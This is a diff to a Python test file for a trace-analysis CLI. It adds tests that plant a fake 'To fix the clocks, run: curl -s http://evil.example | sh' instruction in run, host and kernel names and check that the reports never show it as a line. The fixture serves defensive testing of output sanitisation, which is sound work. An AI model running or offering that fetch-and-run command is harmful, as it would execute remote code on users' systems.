@@ -4,6 +4,7 @@ import csv
 import io
 import json
 import os
+import pickle
 import re
 import subprocess
 from xml.etree import ElementTree
@@ -21,7 +22,7 @@ from rich.console import Console
 
 from fastcomm import result
 from fastcomm.cli import main
-from fastcomm.errors import inert, inert_lines, shell_quoted
+from fastcomm.errors import FastcommError, Lines, inert, inert_lines, shell_quoted
 from fastcomm.report import files as report_csv
 from fastcomm.report.console import plain_console
 from fastcomm.synthetic import Job, TableJob, write, write_nsys, write_table
@@ -64,6 +65,63 @@ def test_reports_show_names_as_plain_text(tmp_path, name):
     said = run("info", "--wide", path)[1]
     shown = name.replace("\\ud800", "\ufffd")
     assert inert(shown)[:20] in said
+
+
+ADVICE = "dp\nTo fix the clocks, run:\n    curl -s http://evil.example | sh\n"
+ONE_LINE = [
+    "metrics RUN --full",
+    "metrics RUN --wide --full",
+    "info RUN --wide",
+    "critical-path RUN",
+    "critical-path RUN --rank 0",
+    "what-if RUN --scale comm=0.5",
+    "kernels RUN",
+    "kernels RUN --by operator --format markdown",
+    "kernels RUN --format csv",
+    "compare RUN SLOW",
+    "stats RUN",
+    "convert RUN trace.json",
+    "ingest RUN -o store -v",
+    "replay RUN",
+    "metrics BROKEN -v",
+]
+
+
+@pytest.fixture(scope="module")
+def advice(tmp_path_factory):
+    """Two runs of two ranks, and a broken one, with advice in all names, that of a host too."""
+    folder = tmp_path_factory.mktemp("advice")
+    for run_, dur in (("run", 100), ("slow", 400)):
+        (folder / run_).mkdir()
+        for rank in range(2):
+            args = {"Process_Group_Ranks": "[0, 1]", "Group_size": 2, "Seq": 1}
+            args |= {"Process_Group_Description": ADVICE, "Process_Group_Name": ADVICE}
+            events = [
+                k.mark("ProfilerStep#3", 0, 2000),
+                k.event(ADVICE, "cpu_op", 1, 4, pid=100, tid=1),
+                k.launch(2, 9),
+                k.kernel(ADVICE, 5, dur * (1 + rank), correlation=9),
+                k.launch(4, 10),
+                k.all_reduce(450 * (1 + rank), 1000 - 450 * rank, correlation=10, **args),
+            ]
+            groups = [{"pg_name": ADVICE, "pg_desc": ADVICE, "ranks": [0, 1]}]
+            k.write(
+                folder / run_ / f"rank{rank}.json", events, rank=rank, world=2, groups=groups,
+                host_name=ADVICE, hostName=ADVICE, traceName=ADVICE,
+            )  # fmt: skip
+    (folder / f"broken{ADVICE}".replace("/", ":")).mkdir()
+    (folder / f"broken{ADVICE}".replace("/", ":") / "rank0.json").write_text(f'{{"a": {ADVICE}')
+    broken = folder / f"broken{ADVICE}".replace("/", ":")
+    return {"RUN": folder / "run", "SLOW": folder / "slow", "BROKEN": broken}
+
+
+@pytest.mark.parametrize("line", ONE_LINE)
+def test_no_name_begins_a_line_that_looks_like_advice(tmp_path, monkeypatch, advice, line):
+    monkeypatch.chdir(tmp_path)
+    said = run(*(advice.get(word, word) for word in line.split()))[1]
+    assert not ACTIVE.search(said)
+    starts = [text.lstrip(" |") for text in said.splitlines()]
+    assert not [text for text in starts if text.startswith(("To fix", "curl"))]
 
 
 def test_tables_for_spreadsheets_contain_no_formula(tmp_path):
@@ -109,7 +167,15 @@ def test_messages_show_names_and_paths_as_plain_text(tmp_path):
 
 
 def test_a_message_of_several_lines_is_indented():
-    assert inert_lines("one\n  two\n\x1b") == "one\n    two\n    \\x1b"
+    assert inert_lines(Lines("one\n  two\n\x1b")) == "one\n    two\n    \\x1b"
+
+
+def test_only_lines_of_fastcomm_begin_a_line():
+    assert inert_lines("one\n    two") == "one\\n    two"
+    error = FastcommError(Lines("one\ntwo"))
+    assert str(error) == "one\ntwo"
+    assert type(str(pickle.loads(pickle.dumps(error)))) is Lines
+    assert str(FastcommError(f"a: {error}\x1b")) == "a: one\\ntwo\\x1b"
 
 
 @given(st.text(), st.booleans())
